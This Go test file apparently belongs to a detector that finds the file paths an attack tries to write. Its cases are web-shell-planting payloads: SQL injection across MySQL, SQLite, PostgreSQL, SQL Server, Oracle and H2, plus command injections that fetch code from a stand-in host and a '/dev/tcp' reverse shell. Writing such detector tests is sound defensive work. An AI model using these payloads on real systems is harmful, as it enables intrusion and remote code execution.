package triage_test

import (
	"net/url"
	"strings"
	"testing"

	"spoor/triage"
)

// The written path is what a plant is found by, so each way of writing has a case: statements of each
// dialect, commands and program text.
var targetCases = []struct{ payload, want string }{
	// MySQL and MariaDB
	{"-1 UNION SELECT 0x3c3f,NULL INTO DUMPFILE '/srv/www/Img/a.php'-- -", "/srv/www/Img/a.php"},
	{`1' into outfile "C:/inetpub/wwwroot/x.asp"#`, "C:/inetpub/wwwroot/x.asp"},
	{"1 into outfile 0x2f7372762f7777772f682e706870--", "/srv/www/h.php"},
	{"1 limit 0,1 INTO OUTFILE '/var/www/html/t.php' LINES TERMINATED BY 0x3c3f7068703f3e-- -", "/var/www/html/t.php"},
	{"1/*!50000union*//**/select/**/1/**/into/**/outfile/**/'/srv/q.php'", "/srv/q.php"},
	{"1%27 iNtO%09oUtFiLe '/srv/Case.php'%23", "/srv/Case.php"},
	{"1;SET GLOBAL general_log_file='/var/www/html/g.php';set global general_log=on", "/var/www/html/g.php"},
	{"1;set @@global.slow_query_log_file = '/var/www/s.php'", "/var/www/s.php"},
	// SQLite
	{"1;ATTACH DATABASE '/srv/l.php' AS l;--", "/srv/l.php"},
	{"1';ATTACH '/srv/m.php' AS m;--", "/srv/m.php"},
	{"1;VACUUM main INTO '/srv/v.php'", "/srv/v.php"},
	{"1;select writefile('/srv/w.php','x')", "/srv/w.php"},
	// PostgreSQL
	{"1;COPY (select 1) TO '/srv/c.php'--", "/srv/c.php"},
	{"1;copy t from program 'echo x > /var/www/html/p.php'", "/var/www/html/p.php"},
	{"1;copy (select '') to program 'wget http://h.example/z -O /var/www/z.php'", "/var/www/z.php"},
	{"1;select lo_export(14344,'/var/www/lo.php')", "/var/www/lo.php"},
	{"1;select pg_file_write('/var/www/adm.php','x',false)", "/var/www/adm.php"},
	// SQL Server
	{"1;BACKUP DATABASE x TO DISK='c:/w/b.asp'--", "c:/w/b.asp"},
	{"1;backup log x to disk=0x633a5c775c6c2e6173702e617370 with init", `c:\w\l.asp.asp`},
	{"1;declare @d nvarchar(99);set @d=0x633a5c775c642e61737078;backup database x to disk=@d", `c:\w\d.aspx`},
	{"1;declare @d nvarchar(99)='c:\\w'+'\\e.aspx';backup database x to disk = @d", `c:\w\e.aspx`},
	{"1;EXEC master..xp_cmdshell 'echo ^<%eval request(1)%^> > C:\\inetpub\\wwwroot\\Up\\k.asp'--", `C:\inetpub\wwwroot\Up\k.asp`},
	{"1';exec xp_cmdshell \"certutil -urlcache -split -f http://h.example/a c:\\inetpub\\c.aspx\"--", `c:\inetpub\c.aspx`},
	{"1;exec master.dbo.xp_cmdshell 'bcp \"select 1\" queryout c:\\inetpub\\q.asp -c -T'", `c:\inetpub\q.asp`},
	{"1;declare @c varchar(99);set @c=0x6563686f2078203e20633a5c775c782e617370;exec master..xp_cmdshell @c", `c:\w\x.asp`},
	{"1;declare @o int,@f int;exec sp_oacreate 'Scripting.FileSystemObject',@o out;exec sp_oamethod @o,'CreateTextFile',@f out,'c:\\inetpub\\o.asp',1", `c:\inetpub\o.asp`},
	{"1;exec sp_makewebtask 'c:\\inetpub\\m.asp','select 1'", `c:\inetpub\m.asp`},
	{"1;DECLARE @s VARCHAR(99);SET @s=CAST(0x6261636b7570206c6f67206120746f206469736b3d27633a5c775c7a2e61737027 AS VARCHAR(99));EXEC(@s)", `c:\w\z.asp`},
	// Oracle
	{"1 and utl_file.fopen('WEB','x.jsp','w') is not null", "x.jsp"},
	{"1;begin f:=utl_file.fopen('/u01/www','y.jsp','W');end;", "/u01/www/y.jsp"},
	{"1;exec dbms_xslprocessor.clob2file(c,'WEB_DIR','z.jsp')", "z.jsp"},
	{"1;exec DBMS_ADVISOR.CREATE_FILE('x','/u01/www','a.jsp')", "/u01/www/a.jsp"},
	// H2
	{"1;SCRIPT TO '/srv/h2.jsp'", "/srv/h2.jsp"},

	// Unix commands
	{";echo PD8=|base64 -d>/var/www/html/s.php", "/var/www/html/s.php"},
	{";wget http://h.example/a.txt -O /var/www/Up/f.php", "/var/www/Up/f.php"},
	{"|curl -so ./u/g.php http://h.example/a", "./u/g.php"},
	{"$(wget http://h.example/new.php)", "new.php"},
	{"&& cp /tmp/a /var/www/h.php", "/var/www/h.php"},
	// Windows commands
	{"cmd.exe /c echo x > c:\\web\\j.aspx", `c:\web\j.aspx`},
	{"powershell -c iwr http://h.example/a -OutFile C:\\web\\K.aspx", `C:\web\K.aspx`},
	{"& certutil -decode a.txt c:\\web\\l.asp", `c:\web\l.asp`},
	// program text
	{"file_put_contents('up/m.php',base64_decode('PD8='));", "up/m.php"},
	{"fputs(fopen('n.php','w'),'x');", "n.php"},
	{"copy('http://h.example/a.txt','o.php');", "o.php"},
	{"%{(new java.io.FileOutputStream('/opt/t/ROOT/p.jsp'))}", "/opt/t/ROOT/p.jsp"},
	{"require('fs').writeFileSync('/srv/q.js','x')", "/srv/q.js"},
}

func TestTarget(t *testing.T) {
	j := triage.NewJudge()
	for _, c := range targetCases {
		once := strings.NewReplacer("%25", "%", "%27", "'", "%23", "#", "%09", "\t").Replace(c.payload)
		for _, coded := range []string{url.QueryEscape(once), url.QueryEscape(url.QueryEscape(once))} {
			found := j.URI("GET", "/a", "x=1&id="+coded, "HTTP/1.1")
			got, level := "", triage.None
			for _, f := range found {
				if f.Target != "" && got == "" {
					got, level = f.Target, f.Level
				}
			}
			if got != c.want {
				t.Errorf("%s: target %q (%s), want %q; found %+v", once, got, level, c.want, found)
			} else if level != triage.Critical && !strings.HasSuffix(c.want, ".js") {
				t.Errorf("%s: level %s of what writes %s", once, level, got)
			}
		}
	}
	for _, f := range j.URI("PUT", "/Up/a.JSP", "", "HTTP/1.1") {
		if f.Rule == "put-script" && f.Target != "/Up/a.JSP" {
			t.Errorf("PUT: target %q", f.Target)
		}
	}
}

// What goes to no file has no target.
func TestNoTarget(t *testing.T) {
	j := triage.NewJudge()
	for _, p := range []string{
		";id > /dev/null", ";bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ";ls -la 2>&1", "1;exec xp_cmdshell 'whoami'", "1 and utl_file.fopen('D','a.jsp','r') is null",
		"system('cat /etc/hosts');", ";curl http://h.example/", "1;exec sp_oacreate 'wscript.shell',@o out",
	} {
		found := j.URI("GET", "/a", "id="+url.QueryEscape(p), "HTTP/1.1")
		if len(found) == 0 {
			t.Errorf("%s: no finding", p)
		}
		for _, f := range found {
			if f.Target != "" {
				t.Errorf("%s: %s has target %q", p, f.Rule, f.Target)
			}
		}
	}
}
